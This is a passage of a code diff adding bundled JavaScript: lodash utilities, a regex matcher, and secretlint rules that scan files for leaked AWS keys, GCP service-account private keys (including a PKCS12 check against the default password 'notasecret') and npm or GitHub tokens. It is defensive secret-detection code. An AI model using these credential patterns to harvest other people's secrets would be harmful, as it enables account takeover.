+      }
+      var index = objLength;
+      while (index--) {
+        var key = objProps[index];
+        if (!(isPartial ? key in other : hasOwnProperty.call(other, key))) {
+          return false;
+        }
+      }
+      var stacked = stack.get(object);
+      if (stacked && stack.get(other)) {
+        return stacked == other;
+      }
+      var result = true;
+      stack.set(object, other);
+      stack.set(other, object);
+      var skipCtor = isPartial;
+      while (++index < objLength) {
+        key = objProps[index];
+        var objValue = object[key], othValue = other[key];
+        if (customizer) {
+          var compared = isPartial ? customizer(othValue, objValue, key, other, object, stack) : customizer(objValue, othValue, key, object, other, stack);
+        }
+        if (!(compared === void 0 ? objValue === othValue || equalFunc(objValue, othValue, customizer, bitmask, stack) : compared)) {
+          result = false;
+          break;
+        }
+        skipCtor || (skipCtor = key == "constructor");
+      }
+      if (result && !skipCtor) {
+        var objCtor = object.constructor, othCtor = other.constructor;
+        if (objCtor != othCtor && ("constructor" in object && "constructor" in other) && !(typeof objCtor == "function" && objCtor instanceof objCtor && typeof othCtor == "function" && othCtor instanceof othCtor)) {
+          result = false;
+        }
+      }
+      stack["delete"](object);
+      stack["delete"](other);
+      return result;
+    }
+    function getMapData(map, key) {
+      var data = map.__data__;
+      return isKeyable(key) ? data[typeof key == "string" ? "string" : "hash"] : data.map;
+    }
+    function getMatchData(object) {
+      var result = keys(object), length = result.length;
+      while (length--) {
+        var key = result[length], value = object[key];
+        result[length] = [key, value, isStrictComparable(value)];
+      }
+      return result;
+    }
+    function getNative(object, key) {
+      var value = getValue2(object, key);
+      return baseIsNative(value) ? value : void 0;
+    }
+    var getTag = baseGetTag;
+    if (DataView2 && getTag(new DataView2(new ArrayBuffer(1))) != dataViewTag || Map2 && getTag(new Map2()) != mapTag || Promise2 && getTag(Promise2.resolve()) != promiseTag || Set2 && getTag(new Set2()) != setTag || WeakMap2 && getTag(new WeakMap2()) != weakMapTag) {
+      getTag = function(value) {
+        var result = objectToString.call(value), Ctor = result == objectTag ? value.constructor : void 0, ctorString = Ctor ? toSource(Ctor) : void 0;
+        if (ctorString) {
+          switch (ctorString) {
+            case dataViewCtorString:
+              return dataViewTag;
+            case mapCtorString:
+              return mapTag;
+            case promiseCtorString:
+              return promiseTag;
+            case setCtorString:
+              return setTag;
+            case weakMapCtorString:
+              return weakMapTag;
+          }
+        }
+        return result;
+      };
+    }
+    function hasPath(object, path2, hasFunc) {
+      path2 = isKey(path2, object) ? [path2] : castPath(path2);
+      var result, index = -1, length = path2.length;
+      while (++index < length) {
+        var key = toKey(path2[index]);
+        if (!(result = object != null && hasFunc(object, key))) {
+          break;
+        }
+        object = object[key];
+      }
+      if (result) {
+        return result;
+      }
+      var length = object ? object.length : 0;
+      return !!length && isLength(length) && isIndex(key, length) && (isArray(object) || isArguments(object));
+    }
+    function isFlattenable(value) {
+      return isArray(value) || isArguments(value) || !!(spreadableSymbol && value && value[spreadableSymbol]);
+    }
+    function isIndex(value, length) {
+      length = length == null ? MAX_SAFE_INTEGER : length;
+      return !!length && (typeof value == "number" || reIsUint.test(value)) && (value > -1 && value % 1 == 0 && value < length);
+    }
+    function isIterateeCall(value, index, object) {
+      if (!isObject(object)) {
+        return false;
+      }
+      var type = typeof index;
+      if (type == "number" ? isArrayLike(object) && isIndex(index, object.length) : type == "string" && index in object) {
+        return eq(object[index], value);
+      }
+      return false;
+    }
+    function isKey(value, object) {
+      if (isArray(value)) {
+        return false;
+      }
+      var type = typeof value;
+      if (type == "number" || type == "symbol" || type == "boolean" || value == null || isSymbol(value)) {
+        return true;
+      }
+      return reIsPlainProp.test(value) || !reIsDeepProp.test(value) || object != null && value in Object(object);
+    }
+    function isKeyable(value) {
+      var type = typeof value;
+      return type == "string" || type == "number" || type == "symbol" || type == "boolean" ? value !== "__proto__" : value === null;
+    }
+    function isMasked(func2) {
+      return !!maskSrcKey && maskSrcKey in func2;
+    }
+    function isPrototype(value) {
+      var Ctor = value && value.constructor, proto = typeof Ctor == "function" && Ctor.prototype || objectProto;
+      return value === proto;
+    }
+    function isStrictComparable(value) {
+      return value === value && !isObject(value);
+    }
+    function matchesStrictComparable(key, srcValue) {
+      return function(object) {
+        if (object == null) {
+          return false;
+        }
+        return object[key] === srcValue && (srcValue !== void 0 || key in Object(object));
+      };
+    }
+    var stringToPath = memoize(function(string) {
+      string = toString(string);
+      var result = [];
+      if (reLeadingDot.test(string)) {
+        result.push("");
+      }
+      string.replace(rePropName, function(match, number, quote, string2) {
+        result.push(quote ? string2.replace(reEscapeChar, "$1") : number || match);
+      });
+      return result;
+    });
+    function toKey(value) {
+      if (typeof value == "string" || isSymbol(value)) {
+        return value;
+      }
+      var result = value + "";
+      return result == "0" && 1 / value == -Infinity ? "-0" : result;
+    }
+    function toSource(func2) {
+      if (func2 != null) {
+        try {
+          return funcToString.call(func2);
+        } catch (e) {
+        }
+        try {
+          return func2 + "";
+        } catch (e) {
+        }
+      }
+      return "";
+    }
+    var sortBy = baseRest(function(collection, iteratees) {
+      if (collection == null) {
+        return [];
+      }
+      var length = iteratees.length;
+      if (length > 1 && isIterateeCall(collection, iteratees[0], iteratees[1])) {
+        iteratees = [];
+      } else if (length > 2 && isIterateeCall(iteratees[0], iteratees[1], iteratees[2])) {
+        iteratees = [iteratees[0]];
+      }
+      return baseOrderBy(collection, baseFlatten(iteratees), []);
+    });
+    function memoize(func2, resolver) {
+      if (typeof func2 != "function" || resolver && typeof resolver != "function") {
+        throw new TypeError(FUNC_ERROR_TEXT);
+      }
+      var memoized = function() {
+        var args2 = arguments, key = resolver ? resolver.apply(this, args2) : args2[0], cache = memoized.cache;
+        if (cache.has(key)) {
+          return cache.get(key);
+        }
+        var result = func2.apply(this, args2);
+        memoized.cache = cache.set(key, result);
+        return result;
+      };
+      memoized.cache = new (memoize.Cache || MapCache)();
+      return memoized;
+    }
+    memoize.Cache = MapCache;
+    function eq(value, other) {
+      return value === other || value !== value && other !== other;
+    }
+    function isArguments(value) {
+      return isArrayLikeObject(value) && hasOwnProperty.call(value, "callee") && (!propertyIsEnumerable.call(value, "callee") || objectToString.call(value) == argsTag);
+    }
+    var isArray = Array.isArray;
+    function isArrayLike(value) {
+      return value != null && isLength(value.length) && !isFunction(value);
+    }
+    function isArrayLikeObject(value) {
+      return isObjectLike(value) && isArrayLike(value);
+    }
+    function isFunction(value) {
+      var tag = isObject(value) ? objectToString.call(value) : "";
+      return tag == funcTag || tag == genTag;
+    }
+    function isLength(value) {
+      return typeof value == "number" && value > -1 && value % 1 == 0 && value <= MAX_SAFE_INTEGER;
+    }
+    function isObject(value) {
+      var type = typeof value;
+      return !!value && (type == "object" || type == "function");
+    }
+    function isObjectLike(value) {
+      return !!value && typeof value == "object";
+    }
+    function isSymbol(value) {
+      return typeof value == "symbol" || isObjectLike(value) && objectToString.call(value) == symbolTag;
+    }
+    var isTypedArray = nodeIsTypedArray ? baseUnary(nodeIsTypedArray) : baseIsTypedArray;
+    function toString(value) {
+      return value == null ? "" : baseToString(value);
+    }
+    function get(object, path2, defaultValue) {
+      var result = object == null ? void 0 : baseGet(object, path2);
+      return result === void 0 ? defaultValue : result;
+    }
+    function hasIn(object, path2) {
+      return object != null && hasPath(object, path2, baseHasIn);
+    }
+    function keys(object) {
+      return isArrayLike(object) ? arrayLikeKeys(object) : baseKeys(object);
+    }
+    function identity(value) {
+      return value;
+    }
+    function property(path2) {
+      return isKey(path2) ? baseProperty(toKey(path2)) : basePropertyDeep(path2);
+    }
+    module2.exports = sortBy;
+  })(lodash_sortby, lodash_sortby.exports);
+  return lodash_sortby.exports;
+}
+var escapeStringRegexp;
+var hasRequiredEscapeStringRegexp;
+function requireEscapeStringRegexp() {
+  if (hasRequiredEscapeStringRegexp) return escapeStringRegexp;
+  hasRequiredEscapeStringRegexp = 1;
+  escapeStringRegexp = (string) => {
+    if (typeof string !== "string") {
+      throw new TypeError("Expected a string");
+    }
+    return string.replace(/[|\\{}()[\]^$+*?.]/g, "\\$&").replace(/-/g, "\\x2d");
+  };
+  return escapeStringRegexp;
+}
+var regexpParse = {};
+var hasRequiredRegexpParse;
+function requireRegexpParse() {
+  if (hasRequiredRegexpParse) return regexpParse;
+  hasRequiredRegexpParse = 1;
+  Object.defineProperty(regexpParse, "__esModule", { value: true });
+  regexpParse.isRegExpString = regexpParse.parseRegExpString = void 0;
+  var REGEXP_LITERAL_PATTERN = /^\/(.+)\/([guimysd]*)$/;
+  var parseRegExpString = function(str2) {
+    var result = str2.match(REGEXP_LITERAL_PATTERN);
+    if (!result) {
+      return null;
+    }
+    return {
+      source: result[1],
+      flagString: result[2]
+    };
+  };
+  regexpParse.parseRegExpString = parseRegExpString;
+  var isRegExpString = function(str2) {
+    return REGEXP_LITERAL_PATTERN.test(str2);
+  };
+  regexpParse.isRegExpString = isRegExpString;
+  return regexpParse;
+}
+var hasRequiredRegexpStringMatcher;
+function requireRegexpStringMatcher() {
+  if (hasRequiredRegexpStringMatcher) return regexpStringMatcher;
+  hasRequiredRegexpStringMatcher = 1;
+  (function(exports$1) {
+    var __importDefault = regexpStringMatcher && regexpStringMatcher.__importDefault || function(mod) {
+      return mod && mod.__esModule ? mod : { "default": mod };
+    };
+    Object.defineProperty(exports$1, "__esModule", { value: true });
+    exports$1.matchPatterns = exports$1.createRegExp = void 0;
+    var lodash_uniq_1 = __importDefault(requireLodash_uniq());
+    var lodash_uniqwith_1 = __importDefault(requireLodash_uniqwith());
+    var lodash_sortby_1 = __importDefault(requireLodash_sortby());
+    var escape_string_regexp_1 = __importDefault(requireEscapeStringRegexp());
+    var regexp_parse_1 = requireRegexpParse();
+    var DEFAULT_FLAGS = "ug";
+    var defaultFlags = function(flagsString) {
+      if (flagsString.length === 0) {
+        return DEFAULT_FLAGS;
+      }
+      return (0, lodash_uniq_1.default)((flagsString + DEFAULT_FLAGS).split("")).join("");
+    };
+    var createRegExp = function(patternString, defaultFlag) {
+      if (defaultFlag === void 0) {
+        defaultFlag = DEFAULT_FLAGS;
+      }
+      if (patternString.length === 0) {
+        throw new Error("Empty string can not handled");
+      }
+      if ((0, regexp_parse_1.isRegExpString)(patternString)) {
+        var regExpStructure = (0, regexp_parse_1.parseRegExpString)(patternString);
+        if (regExpStructure) {
+          return new RegExp(regExpStructure.source, defaultFlags(regExpStructure.flagString));
+        }
+        throw new Error('"'.concat(patternString, '" can not parse as RegExp.'));
+      } else {
+        return new RegExp((0, escape_string_regexp_1.default)(patternString), defaultFlag);
+      }
+    };
+    exports$1.createRegExp = createRegExp;
+    var isEqualMatchPatternResult = function(a, b) {
+      return a.startIndex === b.startIndex && a.endIndex === b.endIndex && a.match === b.match;
+    };
+    var matchPatterns = function(text, regExpLikeStrings) {
+      var matchPatternResults = [];
+      regExpLikeStrings.map(function(patternString) {
+        return (0, exports$1.createRegExp)(patternString);
+      }).forEach(function(regExp) {
+        var results = text.matchAll(regExp);
+        Array.from(results).forEach(function(result) {
+          if (result.index === void 0) {
+            return;
+          }
+          var match = result[0];
+          var index = result.index;
+          matchPatternResults.push({
+            match,
+            captures: result.slice(1),
+            startIndex: index,
+            endIndex: index + match.length
+          });
+        });
+      });
+      var uniqResults = (0, lodash_uniqwith_1.default)(matchPatternResults, isEqualMatchPatternResult);
+      return (0, lodash_sortby_1.default)(uniqResults, ["startIndex", "endIndex"]);
+    };
+    exports$1.matchPatterns = matchPatterns;
+  })(regexpStringMatcher);
+  return regexpStringMatcher;
+}
+var regexpStringMatcherExports = requireRegexpStringMatcher();
+var BUILTIN_IGNORED = {
+  AWSAccountID: ["AKIAIOSFODNN7EXAMPLE"],
+  AWSSecretAccessKey: ["wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"]
+};
+var messages$o = {
+  AWSAccountID: {
+    en: (props) => `found AWS Account ID: ${props.ID}`,
+    ja: (props) => `AWS Account ID: ${props.ID} \u304C\u307F\u3064\u304B\u308A\u307E\u3057\u305F`
+  },
+  AWSSecretAccessKey: {
+    en: (props) => `found AWS Secret Access Key: ${props.KEY}`,
+    ja: (props) => `AWS Secret Access Key: ${props.KEY} \u304C\u307F\u3064\u304B\u308A\u307E\u3057\u305F`
+  },
+  AWSAccessKeyID: {
+    en: (props) => `found AWS Access Key ID: ${props.ID}`,
+    ja: (props) => `AWS Access Key Id: ${props.ID} \u304C\u307F\u3064\u304B\u308A\u307E\u3057\u305F`
+  }
+};
+var reportAWSAccessKey = ({ t, source, context, options }) => {
+  const AWSAccessKeyIDPattern = /\b(A3T[A-Z0-9]|AKIA|AGPA|AIDA|AROA|AIPA|ANPA|ANVA|ASIA)[A-Z0-9]{16}\b/g;
+  const results = source.content.matchAll(AWSAccessKeyIDPattern);
+  for (const result of results) {
+    const index = result.index || 0;
+    const match = result[0] || "";
+    const range = [index, index + match.length];
+    if (BUILTIN_IGNORED.AWSAccountID.includes(match)) {
+      continue;
+    }
+    const allowedResults = regexpStringMatcherExports.matchPatterns(match, options.allows);
+    if (allowedResults.length > 0) {
+      continue;
+    }
+    context.report({
+      message: t("AWSAccessKeyID", {
+        ID: match
+      }),
+      range
+    });
+  }
+};
+var reportAWSSecretAccessKey = ({ t, source, context, options }) => {
+  const AWS = "(?:AWS|aws|Aws)?_?";
+  const QUOTE = `["']?`;
+  const CONNECT = "\\s*(?::|=>|=)\\s*";
+  const AWSSecretPatten = new RegExp(String.raw`${QUOTE}${AWS}(?:SECRET|secret|Secret)_?(?:ACCESS|access|Access)_?(?:KEY|key|Key)${QUOTE}${CONNECT}${QUOTE}([A-Za-z0-9/\+=]{40})${QUOTE}\b`, "g");
+  const results = source.content.matchAll(AWSSecretPatten);
+  for (const result of results) {
+    const index = result.index || 0;
+    const match = result[1] || "";
+    const range = [index, index + match.length];
+    if (BUILTIN_IGNORED.AWSSecretAccessKey.includes(match)) {
+      continue;
+    }
+    const allowedResults = regexpStringMatcherExports.matchPatterns(match, options.allows);
+    if (allowedResults.length > 0) {
+      continue;
+    }
+    context.report({
+      message: t("AWSSecretAccessKey", {
+        KEY: match
+      }),
+      range
+    });
+  }
+};
+var reportAWSAccountID = ({ t, source, context, options }) => {
+  const AWS = "(AWS|aws|Aws)?_?";
+  const QUOTE = `("|')?`;
+  const CONNECT = "\\s*(:|=>|=)\\s*";
+  const AWSSecretPatten = new RegExp(String.raw`${QUOTE}${AWS}(ACCOUNT|account|Account)_?(ID|id|Id)?${QUOTE}${CONNECT}${QUOTE}[0-9]{4}\-?[0-9]{4}\-?[0-9]{4}${QUOTE}\b`, "g");
+  const results = source.content.matchAll(AWSSecretPatten);
+  for (const result of results) {
+    const index = result.index || 0;
+    const match = result[0] || "";
+    const range = [index, index + match.length];
+    const allowedResults = regexpStringMatcherExports.matchPatterns(match, options.allows);
+    if (allowedResults.length > 0) {
+      continue;
+    }
+    context.report({
+      message: t("AWSAccountID", {
+        ID: match
+      }),
+      range
+    });
+  }
+};
+var creator$p = {
+  messages: messages$o,
+  meta: {
+    id: "@secretlint/secretlint-rule-aws",
+    recommended: true,
+    type: "scanner",
+    supportedContentTypes: ["text"],
+    docs: {
+      url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-aws/README.md"
+    }
+  },
+  create(context, options) {
+    const normalizedOptions = {
+      allows: options.allows || [],
+      enableIDScanRule: options.enableIDScanRule ?? false
+    };
+    const t = context.createTranslator(messages$o);
+    return {
+      file(source) {
+        if (normalizedOptions.enableIDScanRule) {
+          reportAWSAccessKey({ t, source, context, options: normalizedOptions });
+          reportAWSAccountID({ t, source, context, options: normalizedOptions });
+        }
+        reportAWSSecretAccessKey({ t, source, context, options: normalizedOptions });
+      }
+    };
+  }
+};
+var TAG_INTEGER = 2;
+var TAG_OCTET_STRING = 4;
+var TAG_NULL = 5;
+var TAG_OID = 6;
+var TAG_SEQUENCE = 48;
+var TAG_CONTEXT_0 = 160;
+function readTlv(buf, offset) {
+  if (offset + 2 > buf.length) {
+    throw new Error("PKCS12: truncated TLV header");
+  }
+  const tag = buf[offset];
+  const lenByte = buf[offset + 1];
+  let length;
+  let contentStart;
+  if (lenByte < 128) {
+    length = lenByte;
+    contentStart = offset + 2;
+  } else {
+    const lenBytes = lenByte & 127;
+    if (lenBytes === 0 || lenBytes > 4) {
+      throw new Error("PKCS12: unsupported ASN.1 length encoding");
+    }
+    if (offset + 2 + lenBytes > buf.length) {
+      throw new Error("PKCS12: truncated ASN.1 length");
+    }
+    length = 0;
+    for (let i2 = 0; i2 < lenBytes; i2++) {
+      length = length * 256 + buf[offset + 2 + i2];
+    }
+    contentStart = offset + 2 + lenBytes;
+  }
+  const end = contentStart + length;
+  if (end > buf.length) {
+    throw new Error("PKCS12: TLV extends past buffer");
+  }
+  return { tag, content: buf.subarray(contentStart, end), end };
+}
+function expectTag(tlv, tag, label) {
+  if (tlv.tag !== tag) {
+    throw new Error(`PKCS12: expected ${label} tag 0x${tag.toString(16)} but got 0x${tlv.tag.toString(16)}`);
+  }
+}
+function readInteger(tlv) {
+  expectTag(tlv, TAG_INTEGER, "INTEGER");
+  let value = 0;
+  for (const byte of tlv.content) {
+    value = value * 256 + byte;
+  }
+  return value;
+}
+function bytesEqual(a, b) {
+  if (a.length !== b.length)
+    return false;
+  let diff = 0;
+  for (let i2 = 0; i2 < a.length; i2++) {
+    diff |= a[i2] ^ b[i2];
+  }
+  return diff === 0;
+}
+var OID_DATA = new Uint8Array([42, 134, 72, 134, 247, 13, 1, 7, 1]);
+var OID_SHA1 = new Uint8Array([43, 14, 3, 2, 26]);
+var OID_SHA256 = new Uint8Array([96, 134, 72, 1, 101, 3, 4, 2, 1]);
+var OID_SHA384 = new Uint8Array([96, 134, 72, 1, 101, 3, 4, 2, 2]);
+var OID_SHA512 = new Uint8Array([96, 134, 72, 1, 101, 3, 4, 2, 3]);
+var MAC_HASHES = [
+  { oid: OID_SHA1, hash: { name: "SHA-1", outputSize: 20, blockSize: 64 } },
+  { oid: OID_SHA256, hash: { name: "SHA-256", outputSize: 32, blockSize: 64 } },
+  { oid: OID_SHA384, hash: { name: "SHA-384", outputSize: 48, blockSize: 128 } },
+  { oid: OID_SHA512, hash: { name: "SHA-512", outputSize: 64, blockSize: 128 } }
+];
+function matchHash(oidBytes) {
+  for (const { oid, hash } of MAC_HASHES) {
+    if (bytesEqual(oidBytes, oid))
+      return hash;
+  }
+  return void 0;
+}
+var MAX_MAC_ITERATIONS = 1e6;
+function parsePkcs12(buf) {
+  const pfx = readTlv(buf, 0);
+  expectTag(pfx, TAG_SEQUENCE, "PFX SEQUENCE");
+  const version = readTlv(pfx.content, 0);
+  if (readInteger(version) !== 3) {
+    throw new Error("PKCS12: unsupported version");
+  }
+  const authSafeInfo = readTlv(pfx.content, version.end);
+  expectTag(authSafeInfo, TAG_SEQUENCE, "ContentInfo SEQUENCE");
+  const contentType = readTlv(authSafeInfo.content, 0);
+  expectTag(contentType, TAG_OID, "contentType OID");
+  if (!bytesEqual(contentType.content, OID_DATA)) {
+    throw new Error("PKCS12: unsupported authSafe contentType");
+  }
+  const explicit0 = readTlv(authSafeInfo.content, contentType.end);
+  expectTag(explicit0, TAG_CONTEXT_0, "[0] EXPLICIT");
+  const authSafeOctet = readTlv(explicit0.content, 0);
+  expectTag(authSafeOctet, TAG_OCTET_STRING, "authSafe OCTET STRING");
+  const macData = readTlv(pfx.content, authSafeInfo.end);
+  expectTag(macData, TAG_SEQUENCE, "MacData SEQUENCE");
+  const digestInfo = readTlv(macData.content, 0);
+  expectTag(digestInfo, TAG_SEQUENCE, "DigestInfo SEQUENCE");
+  const alg = readTlv(digestInfo.content, 0);
+  expectTag(alg, TAG_SEQUENCE, "AlgorithmIdentifier SEQUENCE");
+  const algOid = readTlv(alg.content, 0);
+  expectTag(algOid, TAG_OID, "algorithm OID");
+  const macHash = matchHash(algOid.content);
+  if (!macHash) {
+    throw new Error("PKCS12: unsupported MAC digest algorithm");
+  }
+  if (algOid.end < alg.content.length) {
+    const params = readTlv(alg.content, algOid.end);
+    if (params.tag !== TAG_NULL) {
+      throw new Error("PKCS12: unexpected MAC algorithm parameters");
+    }
+  }
+  const digest2 = readTlv(digestInfo.content, alg.end);
+  expectTag(digest2, TAG_OCTET_STRING, "digest OCTET STRING");
+  const salt = readTlv(macData.content, digestInfo.end);
+  expectTag(salt, TAG_OCTET_STRING, "macSalt OCTET STRING");
+  let iterations = 1;
+  if (salt.end < macData.content.length) {
+    const iter = readTlv(macData.content, salt.end);
+    iterations = readInteger(iter);
+  }
+  if (iterations < 1 || iterations > MAX_MAC_ITERATIONS) {
+    throw new Error("PKCS12: MAC iteration count out of range");
+  }
+  return {
+    authSafe: authSafeOctet.content,
+    macHash,
+    macSalt: salt.content,
+    macDigest: digest2.content,
+    iterations
+  };
+}
+function toBufferSource(data) {
+  const copy = new Uint8Array(data.length);
+  copy.set(data);
+  return copy;
+}
+async function digest(hash, data) {
+  return new Uint8Array(await globalThis.crypto.subtle.digest(hash.name, toBufferSource(data)));
+}
+function padToMultipleOf(src, blockSize) {
+  if (src.length === 0)
+    return new Uint8Array(0);
+  const padded = new Uint8Array(Math.ceil(src.length / blockSize) * blockSize);
+  for (let i2 = 0; i2 < padded.length; i2++) {
+    padded[i2] = src[i2 % src.length];
+  }
+  return padded;
+}
+function encodePasswordAsBmpString(password) {
+  if (password.length === 0)
+    return new Uint8Array(0);
+  const bytes = new Uint8Array(password.length * 2 + 2);
+  for (let i2 = 0; i2 < password.length; i2++) {
+    const code2 = password.charCodeAt(i2);
+    bytes[i2 * 2] = code2 >> 8 & 255;
+    bytes[i2 * 2 + 1] = code2 & 255;
+  }
+  return bytes;
+}
+async function deriveMacKey(hash, password, salt, iterations) {
+  const v = hash.blockSize;
+  const u = hash.outputSize;
+  const ID_MAC = 3;
+  const D = new Uint8Array(v).fill(ID_MAC);
+  const P2 = padToMultipleOf(encodePasswordAsBmpString(password), v);
+  const S = padToMultipleOf(salt, v);
+  const DI = new Uint8Array(D.length + S.length + P2.length);
+  DI.set(D, 0);
+  DI.set(S, D.length);
+  DI.set(P2, D.length + S.length);
+  let A = await digest(hash, DI);
+  for (let i2 = 1; i2 < iterations; i2++) {
+    A = await digest(hash, A);
+  }
+  return A.subarray(0, u);
+}
+async function verifyPkcs12Mac(pfxBytes, password) {
+  let parsed;
+  try {
+    parsed = parsePkcs12(pfxBytes);
+  } catch {
+    return false;
+  }
+  try {
+    const key = await deriveMacKey(parsed.macHash, password, parsed.macSalt, parsed.iterations);
+    const cryptoKey = await globalThis.crypto.subtle.importKey("raw", toBufferSource(key), { name: "HMAC", hash: parsed.macHash.name }, false, ["sign"]);
+    const mac = new Uint8Array(await globalThis.crypto.subtle.sign("HMAC", cryptoKey, toBufferSource(parsed.authSafe)));
+    return bytesEqual(mac, parsed.macDigest);
+  } catch {
+    return false;
+  }
+}
+var GCP_SERVICE_ACCOUNT_P12_PASSWORD = "notasecret";
+async function reportIfFoundPrivateKeyP12Format({ source, context, t }) {
+  if (!source.filePath) {
+    return;
+  }
+  try {
+    const fs2 = await import("node:fs");
+    const path2 = await import("node:path");
+    const pfxBytes = new Uint8Array(fs2.readFileSync(source.filePath));
+    const isGcpServiceAccountP12 = await verifyPkcs12Mac(pfxBytes, GCP_SERVICE_ACCOUNT_P12_PASSWORD);
+    if (!isGcpServiceAccountP12) {
+      return;
+    }
+    context.report({
+      message: t("PrivateKeyP12", {
+        FILE_NAME: path2.basename(source.filePath)
+      }),
+      range: [0, source.content.length]
+    });
+  } catch {
+  }
+}
+var messages$n = {
+  PrivateKeyP12: {
+    en: (props) => `found GCP Service Account's private key(p12): ${props.FILE_NAME}`,
+    ja: (props) => `GCP\u30B5\u30FC\u30D3\u30B9\u30A2\u30AB\u30A6\u30F3\u30C8\u306E\u79D8\u5BC6\u9375(p12) ${props.FILE_NAME} \u304C\u307F\u3064\u304B\u308A\u307E\u3057\u305F`
+  },
+  PrivateKeyJSON: {
+    en: (props) => `found GCP Service Account's private key(json): ${props.FILE_NAME}`,
+    ja: (props) => `GCP\u30B5\u30FC\u30D3\u30B9\u30A2\u30AB\u30A6\u30F3\u30C8\u306E\u79D8\u5BC6\u9375(json): ${props.FILE_NAME} \u304C\u307F\u3064\u304B\u308A\u307E\u3057\u305F`
+  }
+};
+function reportIfFoundPrivateKeyJSONFormat({ source, context, t }) {
+  try {
+    const credentialObject = JSON.parse(source.content);
+    const PRIVATE_KEY_PATTERN = /-----BEGIN\s?(DSA|RSA|EC|PGP|OPENSSH)?\s?PRIVATE KEY/gm;
+    const isGCPServiceAccountPrivateKeyJSON = "private_key_id" in credentialObject && "private_key" in credentialObject && PRIVATE_KEY_PATTERN.test(credentialObject["private_key"]);
+    if (!isGCPServiceAccountPrivateKeyJSON) {
+      return;
+    }
+    context.report({
+      message: t("PrivateKeyJSON", {
+        FILE_NAME: source.filePath ? path.basename(source.filePath) : ""
+      }),
+      range: [0, source.content.length]
+    });
+  } catch {
+  }
+}
+var creator$o = {
+  messages: messages$n,
+  meta: {
+    id: "@secretlint/secretlint-rule-gcp",
+    recommended: true,
+    type: "scanner",
+    supportedContentTypes: ["all"],
+    docs: {
+      url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-gcp/README.md"
+    }
+  },
+  create(context, options) {
+    const t = context.createTranslator(messages$n);
+    ({
+      allows: options.allows || []
+    });
+    return {
+      file(source) {
+        if (source.ext === ".p12") {
+          return reportIfFoundPrivateKeyP12Format({ source, context, t });
+        } else if (source.ext === ".json") {
+          return reportIfFoundPrivateKeyJSONFormat({ source, context, t });
+        }
+      }
+    };
+  }
+};
+var messages$m = {
+  PackageJSON_xOauthToken: {
+    en: (props) => `found GitHub Token: ${props.TOKEN}`,
+    ja: (props) => `GitHub Token: ${props.TOKEN} \u304C\u307F\u3064\u304B\u308A\u307E\u3057\u305F`
+  },
+  Npmrc_authToken: {
+    en: (props) => `found npmrc authToken: ${props.TOKEN}`,
+    ja: (props) => `npmrc authToken: ${props.TOKEN} \u304C\u307F\u3064\u304B\u308A\u307E\u3057\u305F`
+  },
+  NPM_ACCESS_TOKEN: {
+    en: (props) => `found npm access token: ${props.TOKEN}`,
+    ja: (props) => `npm access token: ${props.TOKEN} \u304C\u307F\u3064\u304B\u308A\u307E\u3057\u305F`
+  }
+};
+function reportIfFoundXOauthGitHubToken({ source, options, context, t }) {
+  const XOAuthPattern = /https?:\/\/(.{1,256}):x-oauth-basic@github.com\//g;
+  const results = source.content.matchAll(XOAuthPattern);
+  for (const result of results) {
+    const index = result.index || 0;
+    const match = result[1] || "";
+    const range = [index, index + match.length];
+    const allowedResults = regexpStringMatcherExports.matchPatterns(match, options.allows);
+    if (allowedResults.length > 0) {
+      continue;
+    }
+    context.report({
+      message: t("PackageJSON_xOauthToken", {
+        TOKEN: match
+      }),
+      range
+    });
+  }
+}
+function reportIfFound_AuthTokenInNpmrc({ source, options, context, t }) {
+  const AuthTokenPattern = /_authToken=([^$].*)/g;
+  const results = source.content.matchAll(AuthTokenPattern);
+  for (const result of results) {
+    const index = result.index || 0;
+    const match = result[1] || "";
+    const range = [index, index + match.length];
+    const allowedResults = regexpStringMatcherExports.matchPatterns(match, options.allows);
+    if (allowedResults.length > 0) {
+      continue;
+    }
+    context.report({
+      message: t("Npmrc_authToken", {
+        TOKEN: match
+      }),
+      range
+    });
+  }
+}
+function reportIfFound_NPM_ACCESS_TOKEN({ source, options, context, t }) {
+  const NPM_ACCESS_TOKEN_PATTERN = new RegExp("(?<!\\p{L})npm_[A-Za-z0-9_]{36}(?![A-Za-z0-9_])", "gu");
+  const results = source.content.matchAll(NPM_ACCESS_TOKEN_PATTERN);
+  for (const result of results) {
+    const index = result.index || 0;
+    const match = result[0] || "";
+    const range = [index, index + match.length];
+    const allowedResults = regexpStringMatcherExports.matchPatterns(match, options.allows);
+    if (allowedResults.length > 0) {
+      continue;
+    }
+    context.report({
+      message: t("NPM_ACCESS_TOKEN", {
+        TOKEN: match
+      }),
+      range
+    });
+  }
+}
+var isPackageFile = (filePath) => {
+  if (!filePath) {
+    return true;
+  }
+  return filePath.endsWith("package.json") || filePath.endsWith("package-lock.json");
+};
+var isNpmrc = (filePath) => {
+  if (!filePath) {
+    return true;
+  }
+  return filePath.endsWith(".npmrc");
+};
+var creator$n = {
+  messages: messages$m,
+  meta: {
+    id: "@secretlint/secretlint-rule-npm",
+    recommended: true,
+    type: "scanner",
+    supportedContentTypes: ["text"],
+    docs: {
+      url: "https://github.com/secretlint/secretlint/blob/master/packages/%40secretlint/secretlint-rule-npm/README.md"
+    }
+  },
+  create(context, options) {
+    const t = context.createTranslator(messages$m);
+    const normalizedOptions = {
+      allows: options.allows || []
+    };
+    return {
+      file(source) {
+        if (isPackageFile(source.filePath)) {
+          reportIfFoundXOauthGitHubToken({ source, options: normalizedOptions, context, t });
+        } else if (isNpmrc(source.filePath)) {
+          reportIfFound_AuthTokenInNpmrc({ source, options: normalizedOptions, context, t });
+        }
+        reportIfFound_NPM_ACCESS_TOKEN({ source, options: normalizedOptions, context, t });
+      }
+    };
+  }
+};
+var messages$l = {
+  SLACK_TOKEN: {
+    en: (props) => `found slack token: ${props.TOKEN}`,
+    ja: (props) => `Slack\u30C8\u30FC\u30AF\u30F3: ${props.TOKEN} \u304C\u307F\u3064\u304B\u308A\u307E\u3057\u305F`
+  },
+  IncomingWebhook: {
+    en: (props) => `found Slack Incoming Webhook: ${props.URL}`,
+    ja: (props) => `Slack\u306EIncoming Webhooks: ${props.TOKEN} \u304C\u307F\u3064\u304B\u308A\u307E\u3057\u305F`
+  }
+};
+function reportIfFoundRawPrivateKey$1({ source, options, context, t }) {
